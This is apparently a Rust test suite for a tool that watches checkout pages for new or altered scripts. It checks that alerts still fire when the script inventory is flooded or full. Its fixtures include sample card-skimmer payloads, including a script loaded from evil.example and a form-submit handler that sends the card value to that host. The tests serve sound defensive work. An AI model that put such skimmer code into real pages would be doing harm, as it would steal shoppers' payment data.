//! Whatever fills the inventory, what is new on a paying page is told.

use storeward_checkout::MIGRATIONS;
use storeward_checkout::desk::{Alert, Error, Kind, Scope, Script};
use storeward_events::Event;
use storeward_store::both_engines;

use crate::bench::{Bench, STAFF, because};

const EVIL: &str = "<script src=https://evil.example/skim.js></script>";

/// A page with code that has no shape and is another one with each view.
fn page(view: u32, rest: &str) -> String {
    format!("<head><script>var view = `{view}`;</script>{rest}")
}

async fn addresses_told(bench: &Bench) -> Vec<String> {
    let address = |event| match event {
        Event::ScriptNew(fact) => fact.address,
        other => panic!("{other:?}"),
    };
    bench.told("checkout.script_new").await.into_iter().map(address).collect()
}

async fn open(bench: &Bench, kind: &str) -> Vec<Alert> {
    let alerts = bench.checkout.alerts(500).await.unwrap();
    alerts.into_iter().filter(|alert| alert.kind == kind && alert.closed_at.is_none()).collect()
}

/// Closes what is open, and gives it.
async fn close_all(bench: &Bench) -> Vec<Alert> {
    let mut all = Vec::new();
    while let Some(alert) = bench.checkout.alerts(1).await.unwrap().pop().filter(|a| a.closed_at.is_none()) {
        bench.checkout.close_alert(&alert.id, STAFF).await.unwrap();
        all.push(alert);
    }
    all
}

// Anybody can load a page 1,500 times: that is one thing to look at, and silences nothing.
both_engines!(views_of_code_that_changes_silence_nothing, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "on_change = 'last_good'").await;
    bench.settled("<head><script>go()</script>").await;
    bench.approve(&bench.row("inline").await, Scope::Exact).await;
    for view in 0..240 {
        bench.page(&page(view, "")).await;
        if view % 40 == 39 || view < 10 {
            bench.checkout.settle().await.unwrap();
        }
    }
    let rows = bench.scripts().await;
    assert!(rows.len() <= 5, "{}", rows.len());
    let changing = rows.iter().find(|row| row.address.starts_with("code that is another one")).unwrap();
    assert!(changing.seen > 100 && changing.hash.is_none() && changing.kind == Kind::Inline);
    assert!(open(&bench, "script_new").await.len() <= 4);
    // There is nothing of it that could be approved.
    for scope in [Scope::Exact, Scope::Shape, Scope::Address] {
        let refused = bench.checkout.approve(&changing.id, because(scope), STAFF).await;
        assert!(matches!(refused, Err(Error::Misfit { .. })), "{refused:?}");
    }
    close_all(&bench).await;
    bench.checkout.refresh().await.unwrap();
    let mode = |went: crate::bench::Went| went.headers.contains_key("content-security-policy");
    assert!(!mode(bench.page(&page(2_000, "")).await));
    // A file of a host that nobody knows, and code that hides behind the same beginning.
    bench.settled(&page(2_001, EVIL)).await;
    assert!(addresses_told(&bench).await.contains(&"https://evil.example/skim.js".to_owned()));
    assert_eq!(open(&bench, "script_new").await.len(), 1);
    assert!(mode(bench.page(&page(2_002, EVIL)).await), "the last good state");
    close_all(&bench).await;
    let second = "<script>var view = `x`; steal(card)</script>";
    bench.settled(&page(2_003, second)).await;
    assert_eq!(open(&bench, "script_new").await.len(), 1, "one more in a view than ever before");
});

// The same where each piece also begins otherwise, and is many at once.
both_engines!(whatever_fills_the_rooms_a_foreign_file_is_told, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "on_change = 'last_good'").await;
    bench.settled("<head><script>go()</script>").await;
    bench.approve(&bench.row("inline").await, Scope::Exact).await;
    let name = |number: u32| -> String {
        number.to_string().bytes().map(|digit| char::from(digit - b'0' + b'a')).collect()
    };
    for view in 0..3u32 {
        let mut body = "<head>".to_owned();
        for piece in 0..120 {
            let number = view * 120 + piece;
            body.push_str(&format!(
                "<script>{}()</script><script src=/own/{number}.js></script>",
                name(number)
            ));
        }
        bench.settled(&body).await;
    }
    let rows = bench.scripts_all().await;
    let files = rows.iter().filter(|row| row.kind == Kind::Script).count();
    assert!(files == 300 && rows.len() < 700, "{files} of {}", rows.len());
    let said = close_all(&bench).await;
    assert!(
        said.iter().any(|alert| alert.what.contains("no room for more files")),
        "it is told as what it is"
    );
    assert!(said.iter().all(|alert| alert.kind != "reports_flooded"), "nobody reported anything");
    bench.settled(&page(1, EVIL)).await;
    assert!(addresses_told(&bench).await.contains(&"https://evil.example/skim.js".to_owned()));
    assert!(open(&bench, "script_new").await.iter().any(|alert| alert.what.contains("evil.example")));
});

// A page's own code that begins alike and stays what it is can be approved, however much else changes.
both_engines!(code_that_is_seen_again_has_a_row, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "").await;
    let body: String = (0..6).map(|number| format!("<script>var view = `s{number}`;</script>")).collect();
    for view in 0..8 {
        bench.settled(&page(view, &body)).await;
    }
    let rows = bench.scripts().await;
    let stays = rows.iter().filter(|row| row.hash.is_some() && row.seen > 1).count();
    assert_eq!(stays, 6, "{rows:?}");
});

// Alerts that nobody closed keep out none of a script that is not any more what was approved.
both_engines!(a_change_always_has_room, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "on_change = 'last_good'").await;
    let shop = "<head><script>var total = \"1\";</script><script src=https://cdn.example/a.js></script>";
    bench.settled(shop).await;
    let file = bench.row("https://cdn.example/a.js").await;
    bench.give_hash(&file, "YWFh").await;
    bench.approve(&bench.row("https://cdn.example/a.js").await, Scope::Exact).await;
    bench.approve(&bench.row("inline").await, Scope::Exact).await;
    let fill = bench.db.write(|tx| {
        tx.commit_silent("a test");
        for number in 0..1_000u32 {
            let insert = "INSERT INTO checkout_alert (id, kind, source, what, seen, is_armed, at, last_at) \
                          VALUES ($1, 'script_new', 'page', 'a test', 1, 0, 0, 0)";
            tx.execute(insert, storeward_store::params![format!("{number:032x}")])?;
        }
        Ok::<_, storeward_store::Error>(())
    });
    fill.await.unwrap();
    // Approved by its very hash, though it holds what changes: each view is a change.
    for view in 0..25 {
        bench.page(&shop.replace("\"1\"", &format!("\"v{view}\""))).await;
        bench.checkout.settle().await.unwrap();
    }
    assert_eq!(open(&bench, "script_changed").await.len(), 20);
    for alert in open(&bench, "script_changed").await {
        bench.checkout.close_alert(&alert.id, STAFF).await.unwrap();
    }
    let other = "<head><script>var total = \"w\";</script>";
    bench.settled(other).await;
    assert_eq!(open(&bench, "script_changed").await.len(), 1);
});

/// Fills the inventory as a version before did; staff looked at none of it, or approved all.
async fn filled(bench: &Bench, count: u32, (kind, address): (&'static str, &'static str), is_approved: bool) {
    let fill = bench.db.write(move |tx| {
        tx.commit_silent("a test");
        for number in 0..count {
            let insert = "INSERT INTO checkout_script (id, version, kind, address, sample, page, source, seen, first_seen, last_seen, is_shared, \
                          scope, owner, justification, approved_by, approved_at, approved_until) \
                          VALUES ($1, 1, $2, $3, '', '/checkout', 'page', 2, $4, $4, 0, $5, 'a', 'b', 'c', 0, $6)";
            let at = storeward_base::Timestamp::from_micros(number.into());
            let scope = is_approved.then(|| "address".to_owned());
            let until = is_approved.then(|| tx.now().plus(std::time::Duration::from_secs(86_400)));
            let address = address.replace("{n}", &number.to_string());
            tx.execute(insert, storeward_store::params![format!("{number:032x}"), kind, address, at, scope, until])?;
        }
        Ok::<_, storeward_store::Error>(())
    });
    fill.await.unwrap();
}

// Ordinary customers, each with code of their session that they look at twice: twenty rows, and what comes then is told.
both_engines!(code_of_each_session_fills_no_room, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "").await;
    for session in 0..60 {
        for _ in 0..2 {
            bench.settled(&page(session, "")).await;
        }
    }
    let rows = bench.scripts().await;
    assert!((20..=30).contains(&rows.len()), "{}", rows.len());
    close_all(&bench).await;
    let skimmer =
        "<script>document.forms[0].onsubmit=e=>{new Image().src=\"//evil.example/?\"+card.value}</script>";
    bench.settled(&page(1_000, skimmer)).await;
    assert_eq!(open(&bench, "script_new").await.len(), 1);
    close_all(&bench).await;
    // One that stands in the place of the session's code, and begins as it does, is told once it stays.
    let hidden = "<head><script>var view = `x`; steal(card)</script>";
    for is_told in [false, true] {
        bench.settled(hidden).await;
        assert_eq!(!open(&bench, "script_new").await.is_empty(), is_told);
        bench.db.clock.advance(std::time::Duration::from_secs(25 * 3600));
    }
    let count = bench.scripts().await.len();
    assert!(count <= 31, "{count}: it has the place of another");
});

// A full room was silent for good: a skimmer had no row and no alert, and the shop's own code could not be approved.
both_engines!(a_full_room_of_code_makes_room, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "").await;
    filled(&bench, 500, ("inline", "code"), false).await;
    let first = format!("{:032x}", 0);
    let alert = bench.db.write(move |tx| {
        tx.commit_silent("a test");
        let insert = "INSERT INTO checkout_alert (id, kind, script, source, what, seen, is_armed, at, last_at, room) \
                      VALUES ($1, 'script_new', $1, 'page', 'the first', 1, 0, 0, 0, 'code')";
        tx.execute(insert, storeward_store::params![&first])
    });
    alert.await.unwrap();
    bench.settled("<head><script>document.forms[0].onsubmit = steal</script>").await;
    let told = open(&bench, "script_new").await;
    assert_eq!(told.len(), 2, "{told:?}");
    assert!(told.iter().any(|alert| alert.what.contains("no room for more code")), "{told:?}");
    let rows: Vec<Script> = bench.checkout.scripts(None, 1_000).await.unwrap();
    assert!(rows.len() == 500 && rows.iter().all(|row| row.id.as_str() != format!("{:032x}", 0)));
    // What was seen least recently went, and its alert with it: each row has one at most. What the shop has can be approved.
    let own = rows.iter().find(|row| row.hash.is_some()).unwrap();
    bench.approve(own, Scope::Exact).await;
});

// Whoever makes the shop's code another one with each cart emptied the room of what others had seen, a skimmer's row and its alert with it.
both_engines!(nobody_empties_a_full_room_of_code, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "").await;
    filled(&bench, 500, ("inline", "code"), false).await;
    let skimmer = format!("{:032x}", 0);
    let row = skimmer.clone();
    let seen = bench.db.write(move |tx| {
        tx.commit_silent("a test");
        let now = tx.now();
        let update = "UPDATE checkout_script SET first_seen = $2, last_seen = $3 WHERE id = $1";
        let hours = |count: u64| std::time::Duration::from_secs(count * 3600);
        tx.execute(update, storeward_store::params![&row, now.minus(hours(72)), now.minus(hours(24))])?;
        let others = "UPDATE checkout_script SET first_seen = $2, last_seen = $2 WHERE id <> $1";
        tx.execute(others, storeward_store::params![&row, now.minus(hours(2))])?;
        let insert = "INSERT INTO checkout_alert (id, kind, script, source, what, seen, is_armed, at, last_at, room) \
                      VALUES ($1, 'script_new', $1, 'page', 'the skimmer', 1, 0, 0, 0, 'code')";
        tx.execute(insert, storeward_store::params![&row])
    });
    seen.await.unwrap();
    for cart in 0..40 {
        let lines: String = (0..=cart).map(|line| format!("add(item{line});")).collect();
        bench.settled(&format!("<head><script>cart{cart}(); {lines}</script>")).await;
    }
    let rows: Vec<Script> = bench.checkout.scripts(None, 1_000).await.unwrap();
    assert!(rows.len() == 500 && rows.iter().any(|row| row.id.as_str() == skimmer), "{}", rows.len());
    assert_eq!(rows.iter().filter(|row| row.hash.is_some()).count(), 20);
    let told = open(&bench, "script_new").await;
    assert!(told.iter().any(|alert| alert.what == "the skimmer"), "{told:?}");
    // One for each that came, and one that says that no more did.
    assert!(bench.told("checkout.script_new").await.len() <= 22);
});

// Each deploy has twenty files of other names, and all of them were approved.
both_engines!(approved_files_fill_no_room, MIGRATIONS, async |db| {
    let bench = Bench::new(db, "").await;
    filled(&bench, 310, ("script", "https://cdn.example/chunk/{n}.js"), true).await;
    bench.settled("<head><script src=https://cdn.example/chunk/new.js></script>").await;
    assert!(addresses_told(&bench).await.contains(&"https://cdn.example/chunk/new.js".to_owned()));
    let told = open(&bench, "script_new").await;
    assert!(told.len() == 1 && !told[0].what.contains("no room"), "{told:?}");
});
